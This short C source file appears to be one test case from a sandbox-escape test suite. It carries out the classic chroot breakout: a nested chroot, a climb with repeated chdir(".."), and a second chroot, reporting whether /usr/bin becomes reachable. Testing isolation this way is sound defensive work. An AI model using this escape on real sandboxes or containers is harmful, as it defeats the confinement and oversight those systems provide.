/* The old way out of a root: change it while standing outside of it, climb, and change it again. */
#define _GNU_SOURCE
#include "attack.h"
#include <fcntl.h>
#include <sys/stat.h>

int main(void) {
  mkdir("cell", 0700);
  mkdir("cell/inner", 0700);
  if (is_control() && (chdir("cell") < 0 || chroot(".") < 0)) { /* begin imprisoned */
    stopped("chroot: %s", strerror(errno));
    return 0;
  }
  mkdir("inner", 0700);
  if (chroot("inner") < 0) {
    stopped("chroot: %s", strerror(errno));
    return 0;
  }
  for (int climb = 0; climb < 64; climb++)
    if (chdir("..") < 0) break;
  if (chroot(".") < 0) {
    stopped("second chroot: %s", strerror(errno));
    return 0;
  }
  if (access("/usr/bin", F_OK) == 0)
    through("out of the root");
  else
    stopped("climbed, and found nothing");
  return 0;
}
